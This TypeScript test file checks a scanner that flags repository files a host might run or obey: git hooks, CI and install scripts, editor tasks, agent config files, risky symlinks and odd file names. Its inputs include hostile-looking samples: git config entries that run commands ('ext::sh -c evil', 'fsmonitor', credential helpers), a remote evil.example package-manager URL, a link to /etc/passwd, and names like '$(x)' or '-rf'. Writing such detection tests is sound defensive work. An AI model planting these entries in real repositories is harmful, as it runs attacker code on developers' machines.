import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hostRisks, wantsText, type HostEntry } from '../src/index.ts';
import { pathRules } from '../src/copy-out/risks/rules/all-rules.ts';

function entry(path: string, more: Partial<HostEntry> = {}): HostEntry {
  return { path, type: 'file', executable: false, linkTarget: null, text: '', ...more };
}

const kindsOf = (...entries: readonly HostEntry[]): string[] =>
  hostRisks(entries).map(({ kind, path }) => `${kind} ${path}`);

describe('names that the host runs or obeys', () => {
  it.each([
    ['git', '.git/hooks/pre-commit'],
    ['git', '.GIT/Hooks/pre-commit'],
    ['git', '.g\u200cit/hooks/pre-commit'],
    ['git', 'git~1/hooks/pre-commit'],
    ['git', '.git./hooks/pre-commit'],
    ['git', '.git::$INDEX_ALLOCATION/hooks/pre-commit'],
    ['git', 'vendor/lib/.git/hooks/post-checkout'],
    ['git', '.git/modules/lib/hooks/post-checkout'],
    ['git', '.git/hooks/dir/nested'],
    ['git', '.git'],
    ['git', 'vendor/lib/.git'],
    ['git', '.git/commondir'],
    ['git', '.git/objects/info/alternates'],
    ['git', '.gitmodules'],
    ['git', '.husky/pre-commit'],
    ['git', 'lefthook.yml'],
    ['ci', '.github/workflows/ci.yml'],
    ['ci', '.gitlab-ci.yml'],
    ['ci', '.circleci/config.yml'],
    ['ci', '.woodpecker/build.yaml'],
    ['ci', 'Jenkinsfile'],
    ['ci', '.forgejo/workflows/x.yml'],
    ['ci', '.gitea/workflows/x.yml'],
    ['ci', '.buildkite/pipeline.yml'],
    ['install', '.npmrc'],
    ['install', 'sub/.yarnrc.yml'],
    ['install', '.pnp.cjs'],
    ['install', '.pnpmfile.cjs'],
    ['install', 'binding.gyp'],
    ['install', 'setup.py'],
    ['install', 'pyproject.toml'],
    ['install', 'tests/conftest.py'],
    ['install', 'sitecustomize.py'],
    ['install', 'venv/lib/x.pth'],
    ['install', 'gradle/wrapper/gradle-wrapper.jar'],
    ['install', 'mvnw'],
    ['build', 'Makefile'],
    ['build', 'makefile'],
    ['build', 'justfile'],
    ['build', 'Taskfile.yml'],
    ['build', 'CMakeLists.txt'],
    ['build', 'build.rs'],
    ['build', '.cargo/config.toml'],
    ['build', 'Dockerfile'],
    ['build', 'vite.config.ts'],
    ['editor', '.vscode/tasks.json'],
    ['editor', '.VSCode/launch.json'],
    ['editor', '.idea/runConfigurations/x.xml'],
    ['editor', '.zed/tasks.json'],
    ['editor', '.vimrc'],
    ['editor', '.exrc'],
    ['editor', '.nvim.lua'],
    ['editor', '.devcontainer/devcontainer.json'],
    ['editor', 'devcontainer.json'],
    ['shell', '.envrc'],
    ['shell', '.tool-versions'],
    ['shell', 'mise.toml'],
    ['shell', '.bashrc'],
    ['shell', '.profile'],
    ['shell', '.zshrc'],
    ['shell', 'x.desktop'],
    ['shell', 'evil.service'],
    ['agent', '.mcp.json'],
    ['agent', '.claude/settings.json'],
    ['agent', '.claude/commands/x.md'],
    ['agent', '.cursor/mcp.json'],
    ['agent', '.codex/config.toml'],
    ['agent', 'AGENTS.md'],
    ['agent', 'sub/CLAUDE.md'],
    ['agent', '.bot-bottle/agents/x.md'],
    ['agent', '.bottleignore'],
    ['executable', 'run.PS1'],
    ['executable', 'photo.jpg.exe'],
    ['executable', 'x.lnk'],
  ])('%s: %s', (kind, path) => {
    expect(hostRisks([entry(path)]).map((risk) => risk.kind)).toContain(kind);
  });

  it.each([
    'src/main.ts',
    'README.md',
    'docs/makefile.md',
    'src/git/hooks/pre-commit.ts',
    'github/workflows/ci.yml',
    'hooks/pre-commit.txt',
    'vscode/tasks.json',
    '.git/hooks/pre-commit.sample',
    '.git/objects/ab/cdef',
    '.git/HEAD',
    '.gitignore',
    '.editorconfig',
    '.prettierignore',
    '.env.example',
    'src/envrc.ts',
    'src/agents.md.ts',
    'src/mymakefile',
    'profile',
    'setup.python.md',
    'src/build.rs.txt',
    'package-lock.json',
    'tsconfig.json',
    'data/x.exe.txt',
    'idea/workspace.xml',
    'cargo.lock',
  ])('nothing: %s', (path) => {
    expect(hostRisks([entry(path)])).toEqual([]);
  });

  it('every rule matches its own names, whatever the case', () => {
    for (const { kind, paths, check } of pathRules) {
      if (check !== undefined) continue;
      for (const path of paths) {
        const name = path.replaceAll('**', 'd/f').replaceAll('*', 'x').toUpperCase();
        expect(
          hostRisks([entry(`deep/${name}`)]).map((risk) => risk.kind),
          path,
        ).toContain(kind);
      }
    }
  });

  it('is not told for a folder, whose files are', () => {
    expect(hostRisks([entry('.git', { type: 'folder' }), entry('.husky', { type: 'folder' })])).toEqual([]);
  });
});

describe('contents', () => {
  const why = (path: string, text: string | null): string[] =>
    hostRisks([entry(path, { text })]).map((risk) => risk.why);

  it.each([
    ['{"scripts":{"postinstall":"node x"}}', 'postinstall: node x'],
    ['\uFEFF{"scripts":{"prepare":"husky"}}', 'prepare: husky'],
    ['{"scripts":{"postin\\u0073tall":"x"}}', 'postinstall: x'],
    ['{"scripts":{"test":"a"},"scripts":{"install":"x"}}', 'install: x'],
    ['{"packageManager":"yarn@https://evil.example/y.js"}', 'https://evil.example'],
    ['{"gypfile":true}', 'node-gyp'],
    ['{"scripts":', 'no JSON'],
    ['[1]', ''],
  ])('package.json %s', (text, part) => {
    const found = why('package.json', text);
    if (part === '') expect(found).toEqual([]);
    else expect(found.join()).toContain(part);
  });

  it('package.json without such scripts is nothing, and one that was not read is told', () => {
    expect(why('package.json', '{"scripts":{"test":"vitest","build":"tsc"}}')).toEqual([]);
    expect(why('a/package.json', null).join()).toContain('not looked at');
  });

  it.each([
    '[core]\n\tfsmonitor = ./evil',
    '[core] sshCommand = evil',
    '[Core]\nHOOKSPATH=.h',
    '[core]\n\teditor = evil',
    '[core]\n\tworktree = /etc',
    '[core][alias]x = !evil',
    '# a comment \\\n[alias]\nx = !evil',
    '[user]\nname = a # \\\n[core]\nfsmonitor = evil',
    '[user] name = "a\\"b" \n[pager]log=evil',
    '[alias]\n\tst = status',
    '[filter "x"]\n\tclean = evil',
    '[diff "x"]\n\ttextconv = evil',
    '[diff]\n\texternal = evil',
    '[merge "x"]\n\tdriver = evil',
    '[include]\n\tpath = ../evil',
    '[includeIf "gitdir:/"]\n\tpath = ../evil',
    '[credential]\n\thelper = !evil',
    '[gpg]\n\tprogram = evil',
    '[url "ext::sh -c evil"]\n\tinsteadOf = https://',
    '[remote "o"]\n\turl = ext::sh -c evil',
    '[remote "o"]\n\tvcs = evil',
    '[remote "o"]\n\tuploadpack = evil',
    '[branch "main"]\n\tremote = ext::evil',
    '[submodule "x"]\n\tupdate = !evil',
    '[extensions]\n\tworktreeConfig = true',
    '[hook "x"]\n\tcommand = evil',
    '[gc]\n\trecentObjectsHook = evil',
    '[new-in-git-9]\n\tprogram = evil',
    '[core]\nnonsense nonsense',
    'x = y',
    '[core',
    '[core "__proto__"]\nx=y',
    '[constructor]\nname=y',
    '[core]\nconstructor=y',
  ])('git configuration %j', (text) => {
    expect(why('.git/config', text)).not.toEqual([]);
  });

  it.each([
    '',
    '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n',
    '[core]\n\tfsmonitor = true',
    '[remote "origin"]\n\turl = https://git.example/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*',
    '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main',
    '[user]\n\tname = "A; B" ; [alias]\n\temail = a@b',
    '# [alias]\n; x = !evil\n[color]\n\tui = auto',
    '[submodule "a"]\r\n\tactive = true\r\n\turl = git@host:x/y.git\r\n',
  ])('harmless git configuration %j', (text) => {
    expect(why('.git/config', text)).toEqual([]);
    expect(why('.git/modules/x/y/config', text)).toEqual([]);
  });

  it('attributes that name drivers, and those that do not', () => {
    expect(why('.gitattributes', '*.x filter=evil\n*.y diff=z merge=q').length).toBe(3);
    expect(why('sub/.gitattributes', '* text=auto\n*.py diff=python\n*.lock -diff merge=union')).toEqual([]);
    expect(why('.git/info/attributes', '[attr]x filter=lfs')).toHaveLength(1);
  });

  it('a rebase that goes on with commands', () => {
    expect(why('.git/rebase-merge/git-rebase-todo', 'pick abc\nexec evil\n')).toHaveLength(1);
    expect(why('.git/rebase-merge/git-rebase-todo', 'pick abc exec\n')).toEqual([]);
  });

  it('Cargo.toml with a build script or macros', () => {
    expect(why('Cargo.toml', '[package]\nbuild = "x.rs"')).toHaveLength(1);
    expect(why('Cargo.toml', '[lib]\nproc-macro = true')).toHaveLength(1);
    expect(why('Cargo.toml', '[package]\nname = "x"')).toEqual([]);
  });

  it('editor settings, with the keys that name programs', () => {
    const text = '{ // c\n"git.path": "./x", "python.defaultInterpreterPath": 1, "editor.tabSize": 2 }';
    expect(why('.vscode/settings.json', text).join()).toMatch(/git\.path, python\.defaultInterpreterPath$/);
    expect(why('.vscode/settings.json', '{"git\\u002epath":"x"}').join()).toContain('git.path');
    expect(why('.vscode/settings.json', '{}')).toHaveLength(1);
  });

  it('knows which files must be read', () => {
    for (const path of ['package.json', 'a/.git/config', '.GIT/config', '.gitattributes', 'Cargo.toml'])
      expect(wantsText(path), path).toBe(true);
    for (const path of ['a.ts', '.git/hooks/x', 'Makefile']) expect(wantsText(path), path).toBe(false);
  });
});

describe('links, modes and names', () => {
  const link = (path: string, linkTarget: string): HostEntry =>
    entry(path, { type: 'link', linkTarget, text: null });

  it.each([
    ['link a', link('a', '/etc/passwd')],
    ['link a', link('a', '../x')],
    ['link d/a', link('d/a', 'b/../../../x')],
    ['link a', link('a', '.git/hooks')],
    ['editor .vscode', link('.vscode', 'harmless')],
    ['git .git', link('.git', 'elsewhere')],
    ['git .git/hooks', link('.git/hooks', 'x')],
    ['ci .github', link('.github', 'x')],
    ['install package.json', link('package.json', 'p')],
    ['executable run', entry('run', { executable: true })],
    ['name a\u001b[2J', entry('a\u001b[2J')],
    ['name a\nb', entry('a\nb')],
    ['name a\u202etxt.x', entry('a\u202etxt.x')],
    ['name a\u200bb', entry('a\u200bb')],
    ['name -rf', entry('-rf')],
    ['name a$(x)', entry('a$(x)')],
    ['name a ', entry('a ')],
  ])('%s', (expected, given) => {
    expect(kindsOf(given)).toContain(expected);
  });

  it.each([
    [link('a', 'b/c')],
    [link('d/a', '../b')],
    [link('docs', 'documentation')],
    [entry('run', { executable: false })],
    [entry('dir', { type: 'folder', executable: true })],
    [entry('größe und 日本.txt')],
  ])('nothing: %j', (given) => {
    expect(kindsOf(given)).toEqual([]);
  });

  it('tells names that some file systems take for one', () => {
    expect(kindsOf(entry('A'), entry('a'), entry('b'))).toEqual(['name A', 'name a']);
    expect(kindsOf(entry('e\u0301'), entry('\u00e9'))).toHaveLength(2);
  });

  it('tells a folder that git takes for a repository', () => {
    const bare = ['x/HEAD', 'x/objects/a', 'x/refs/b', 'x/config'].map((path) => entry(path));
    expect(kindsOf(...bare)).toEqual(['git x/HEAD']);
    expect(kindsOf(...bare.slice(0, 2))).toEqual([]);
    expect(kindsOf(...['HEAD', 'objects/a', 'refs/b'].map((name) => entry(`.git/${name}`)))).toEqual([]);
  });

  it('takes whatever comes, and is quick', { timeout: 20_000 }, () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.string({ unit: 'binary' }),
        fc.constantFrom(
          'package.json',
          '.git/config',
          '.gitattributes',
          'Cargo.toml',
          '.vscode/settings.json',
        ),
        (path, text, known) => {
          hostRisks([entry(path), link(path, text), entry(known, { text })]);
        },
      ),
    );
    const long = `${'.git/modules/'.repeat(300)}hooks`;
    const many = Array.from({ length: 20_000 }, (_, index) =>
      entry(`src/some/folder/file-${index}.config.x`),
    );
    const begin = performance.now();
    hostRisks([...many, entry(long), entry('.vscode/settings.json', { text: '"path'.repeat(40_000) })]);
    expect(performance.now() - begin).toBeLessThan(10_000);
  });
});
